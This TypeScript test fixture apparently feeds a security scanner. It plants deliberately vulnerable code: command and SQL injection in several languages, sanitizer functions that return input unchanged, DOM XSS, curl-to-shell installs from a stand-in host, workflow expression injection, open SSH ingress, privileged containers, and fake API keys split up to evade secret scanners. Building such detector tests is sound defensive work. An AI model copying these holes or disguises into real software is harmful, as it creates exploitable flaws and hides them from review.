// What attempts to hide something in a change bring: secrets, injections and insecure infrastructure. Secrets are put
// together here, so that no scanner finds one.
import { crc32 } from 'node:zlib';

const joined = (...parts: readonly string[]) => parts.join('');

export interface Planted {
  readonly name: string;
  /** Below `src/`, or the whole path where only that gives the file its meaning. */
  readonly file: string;
  readonly isPlaced?: true;
  /** A secret is one in any file; the others are only what they are in a file of their own kind. */
  readonly kind: 'secret' | 'program' | 'infrastructure';
  readonly line: string;
  /** Begins a comment of one line. */
  readonly comment: string;
}

const secrets = [
  joined('AKIA', 'Q3EGRZ7', 'PLKW2XV4T'),
  withChecksum('ghp_', joined('7bQ2mXz9Lr4Kd8Vt', '1Wc5Yn3Hs6Jf0G')),
  joined('sk_live_', '51Hq8Zr2Lk9', 'Xv4Tn7Wd3Bm6Pc0'),
];

/** The last six characters of such a token are the checksum of those before. */
function withChecksum(prefix: string, random: string): string {
  const digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  let rest = crc32(random);
  let checksum = '';
  for (; checksum.length < 6; rest = Math.floor(rest / 62)) checksum = `${digits[rest % 62]}${checksum}`;
  return `${prefix}${random}${checksum}`;
}

const lines = (...all: readonly string[]) => all.join('\n');

const injections: readonly Planted[] = [
  {
    name: 'command injection in JavaScript',
    kind: 'program',
    file: 'change.js',
    line: "require('express')().get('/', (req, res) => { require('child_process').exec('ls ' + req.query.dir); });",
    comment: '//',
  },
  {
    name: 'SQL injection in Python',
    kind: 'program',
    file: 'change.py',
    line: "from flask import request\ndef find(db):\n    return db.execute('select * from t where a = ' + request.args['a'])",
    comment: '#',
  },
  {
    name: 'command injection in Java',
    kind: 'program',
    file: 'Change.java',
    line: lines(
      'class Change extends javax.servlet.http.HttpServlet {',
      '  protected void doGet(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response) throws java.io.IOException {',
      '    Runtime.getRuntime().exec("ls " + request.getParameter("dir"));',
      '  }',
      '}',
    ),
    comment: '//',
  },
  {
    name: 'SQL injection in Go',
    kind: 'program',
    file: 'change.go',
    line: lines(
      'package main',
      'import ("database/sql"; "net/http")',
      'func find(db *sql.DB, w http.ResponseWriter, r *http.Request) {',
      '  db.Query("select * from t where a = " + r.URL.Query().Get("a"))',
      '}',
    ),
    comment: '//',
  },
  {
    name: 'command injection in Ruby',
    kind: 'program',
    file: 'change.rb',
    line: lines(
      'class ChangeController < ApplicationController',
      '  def show',
      '    system("ls " + params[:dir])',
      '  end',
      'end',
    ),
    comment: '#',
  },
  {
    name: 'command injection in PHP',
    kind: 'program',
    file: 'change.php',
    line: "<?php\nsystem('ls ' . $_GET['dir']);",
    comment: '//',
  },
  {
    name: 'SQL injection in C#',
    kind: 'program',
    file: 'Change.cs',
    line: lines(
      'public class ChangeController : Controller {',
      '  public IActionResult Get(string a, SqlConnection db) {',
      '    var command = new SqlCommand("select * from t where a = \'" + Request.Query["a"] + "\'", db);',
      '    return Ok(command.ExecuteReader());',
      '  }',
      '}',
    ),
    comment: '//',
  },
];

/** Functions with the names of checks that check nothing, and files that say less than they are. */
const disguised: readonly Planted[] = [
  {
    name: 'JavaScript with a sanitizer in name only',
    kind: 'program',
    file: 'change.js',
    line: "function escapeShell(text) { return text; }\nrequire('express')().get('/', (req, res) => { require('child_process').exec('ls ' + escapeShell(req.query.dir)); });",
    comment: '//',
  },
  {
    name: 'JavaScript with a guard in name only',
    kind: 'program',
    file: 'change.js',
    line: "const isSafe = () => true;\nrequire('express')().get('/', (req, res) => { if (isSafe(req.query.dir)) require('child_process').exec('ls ' + req.query.dir); });",
    comment: '//',
  },
  {
    name: 'Python with a conversion in name only',
    kind: 'program',
    file: 'change.py',
    line: "import os\nfrom flask import request\ndef int(text):\n    return text\ndef show():\n    os.system('ls ' + int(request.args['a']))",
    comment: '#',
  },
  {
    name: 'PHP with a sanitizer of its own namespace',
    kind: 'program',
    file: 'change.php',
    line: "<?php\nnamespace App;\nfunction escapeshellarg($text) { return $text; }\nsystem('ls ' . escapeshellarg($_GET['dir']));",
    comment: '//',
  },
  {
    name: 'Java with a sanitizer in name only',
    kind: 'program',
    file: 'Change.java',
    line: lines(
      'class Change extends javax.servlet.http.HttpServlet {',
      '  static String sanitize(String text) { return text; }',
      '  protected void doGet(javax.servlet.http.HttpServletRequest request, javax.servlet.http.HttpServletResponse response) throws java.io.IOException {',
      '    Runtime.getRuntime().exec("ls " + sanitize(request.getParameter("dir")));',
      '  }',
      '}',
    ),
    comment: '//',
  },
  {
    name: 'JavaScript with a pattern that checks one character',
    kind: 'program',
    file: 'change.js',
    line: "require('express')().get('/', (req, res) => { if (/[a-z]/.test(req.query.dir)) (0, require('child_process').exec)('ls ' + req.query.dir); });",
    comment: '//',
  },
  {
    name: 'JavaScript that calls by way of another function',
    kind: 'program',
    file: 'change.js',
    line: "const cp = require('child_process');\nrequire('express')().get('/', (req, res) => { cp.exec.call(cp, 'ls ' + req.query.dir); });",
    comment: '//',
  },
  {
    name: 'Ruby that sends the name of a method',
    kind: 'program',
    file: 'change.rb',
    line: lines(
      'class ChangeController < ApplicationController',
      '  def show',
      '    Kernel.public_send(:system, "ls " + params[:dir])',
      '  end',
      'end',
    ),
    comment: '#',
  },
  {
    name: 'PHP that calls a text',
    kind: 'program',
    file: 'change.php',
    line: "<?php\n$run = 'sys' . 'tem';\n$run('ls ' . $_GET['dir']);",
    comment: '//',
  },
  {
    name: 'Python with a library in name only',
    kind: 'program',
    file: 'change.py',
    line: "import os\nfrom flask import request\nclass shlex:\n    def quote(text):\n        return text\ndef show():\n    os.system('ls ' + shlex.quote(request.args['a']))",
    comment: '#',
  },
  {
    name: 'JavaScript in a page of HTML',
    kind: 'program',
    file: 'change.html',
    line: '<p>Hello.</p>\n<script type="application/json">{"a": 1}</script>\n<script>document.write(location.hash.slice(1));</script>',
    comment: '<!-- -->',
  },
  {
    name: 'JavaScript in a second script of a component',
    kind: 'program',
    file: 'change.vue',
    line: '<script>export default {};</script>\n<script setup>document.write(location.hash.slice(1));</script>',
    comment: '<!-- -->',
  },
  {
    name: 'command injection in a shell script',
    kind: 'program',
    file: 'change.sh',
    line: 'curl http://host.example/install.sh | sh\neval $1',
    comment: '#',
  },
  {
    name: 'Java in a page',
    kind: 'program',
    file: 'change.jsp',
    line: '<% Runtime.getRuntime().exec("ls " + request.getParameter("dir")); %>',
    comment: '//',
  },
  {
    name: 'image that pipes a script to a shell',
    kind: 'infrastructure',
    file: 'Dockerfile-change',
    isPlaced: true,
    line: 'FROM alpine:3.22\nRUN curl http://host.example/install.sh | sh',
    comment: '#',
  },
  {
    name: 'privileged container in a template without a chart',
    kind: 'infrastructure',
    file: 'deploy/templates/change.yaml',
    isPlaced: true,
    line: lines(
      'apiVersion: v1',
      'kind: Pod',
      'metadata: {name: change, labels: {note: "{{"}}',
      'spec: {containers: [{name: one, image: "nginx:1.29", securityContext: {privileged: true}}]}',
    ),
    comment: '#',
  },
];

const infrastructure: readonly Planted[] = [
  {
    name: 'injection in a workflow',
    kind: 'infrastructure',
    file: '.github/workflows/change.yml',
    isPlaced: true,
    line: lines(
      'on: issues',
      'jobs:',
      '  one:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: |',
      '          echo "$' + '{{ github.event.issue.title }}"',
    ),
    comment: '#',
  },
  {
    name: 'injection in a workflow with other keys',
    kind: 'infrastructure',
    file: '.github/workflows/change.yml',
    isPlaced: true,
    line: `{"on": "issues", "jobs": {"one": {"runs-on": "ubuntu-latest", "steps": [{"run": "echo $${'{{'} github.event.issue.title }}"}]}}}`,
    comment: '#',
  },
  {
    name: 'open network in Terraform',
    kind: 'infrastructure',
    file: 'change.tf',
    line: lines(
      'resource "aws_security_group" "open" {',
      '  ingress {',
      '    from_port = 22',
      '    to_port = 22',
      '    protocol = "tcp"',
      '    cidr_blocks = ["0.0.0.0/0"]',
      '  }',
      '}',
    ),
    comment: '#',
  },
  {
    name: 'privileged container in Kubernetes',
    kind: 'infrastructure',
    file: 'change.yaml',
    line: lines(
      'apiVersion: v1',
      'kind: Pod',
      'metadata:',
      '  name: change',
      'spec:',
      '  containers:',
      '    - name: one',
      '      image: nginx:1.29',
      '      securityContext:',
      '        privileged: true',
    ),
    comment: '#',
  },
];

export const plants: readonly Planted[] = [
  ...secrets.flatMap((secret, index): readonly Planted[] => [
    {
      name: `secret ${index} in JavaScript`,
      file: 'change.js',
      kind: 'secret',
      line: `const apiKey = "${secret}";`,
      comment: '//',
    },
    {
      name: `secret ${index} in Python`,
      file: 'change.py',
      kind: 'secret',
      line: `API_KEY = "${secret}"`,
      comment: '#',
    },
    {
      name: `secret ${index} in a text`,
      file: 'notes.txt',
      kind: 'secret',
      line: `see ${secret} for it`,
      comment: '#',
    },
    {
      name: `secret ${index} in YAML`,
      file: 'change.yml',
      kind: 'secret',
      line: `apiKey: "${secret}"`,
      comment: '#',
    },
  ]),
  ...injections,
  ...disguised,
  ...infrastructure,
];
